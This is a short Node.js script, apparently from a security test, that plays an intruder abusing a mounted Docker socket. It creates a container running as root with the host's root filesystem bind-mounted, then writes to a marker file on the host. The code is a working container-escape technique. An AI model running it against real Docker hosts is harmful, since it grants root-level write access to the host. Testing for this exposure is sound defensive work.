// What an intruder in the service would send to a mounted engine socket: three requests, and no
// tool but the service's own runtime. MARKER is a file of the nested engine's host.
import http from 'node:http';

const [, marker, words] = process.argv;

const engine = (method, path, body) =>
  new Promise((done, failed) => {
    const request = http.request(
      {
        socketPath: '/var/run/docker.sock',
        method,
        path,
        headers: { 'Content-Type': 'application/json' },
      },
      (response) => {
        let text = '';
        response.on('data', (piece) => (text += piece));
        response.on('end', () => {
          if (response.statusCode < 400) done(text);
          else failed(new Error(text.trim()));
        });
      },
    );
    request.on('error', failed);
    request.end(body && JSON.stringify(body));
  });

try {
  const script = `fs.appendFileSync(${JSON.stringify(`/host${marker}`)}, ${JSON.stringify(words)})`;
  const made = await engine('POST', '/containers/create', {
    Image: 'service',
    Entrypoint: ['/nodejs/bin/node', '-e', script],
    User: '0:0',
    HostConfig: { Binds: ['/:/host'], NetworkMode: 'none', AutoRemove: false },
  });
  const { Id } = JSON.parse(made);
  await engine('POST', `/containers/${Id}/start`);
  await engine('POST', `/containers/${Id}/wait`);
  console.log("wrote to the host's file system");
} catch (error) {
  console.log(error.code ?? error.message);
}
